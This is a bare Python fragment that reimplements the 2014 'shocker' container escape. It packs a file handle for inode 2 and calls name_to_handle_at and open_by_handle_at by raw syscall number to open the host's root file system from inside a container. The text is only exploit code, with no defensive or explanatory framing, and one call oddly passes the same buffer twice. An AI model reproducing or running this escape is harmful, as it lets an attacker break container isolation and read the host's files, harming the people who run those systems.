# Opens inode 2 of the host's file system by a file handle (the "shocker" of 2014).
handle = ctypes.create_string_buffer(128)
ctypes.memmove(handle, struct.pack("IiQ", 8, 1, 2), 16)
syscall("name_to_handle_at", (303, 264), -100, b"/usr", handle, handle, 0)
syscall("open_by_handle_at", (304, 265), os.open("/usr", os.O_RDONLY), handle, 0)
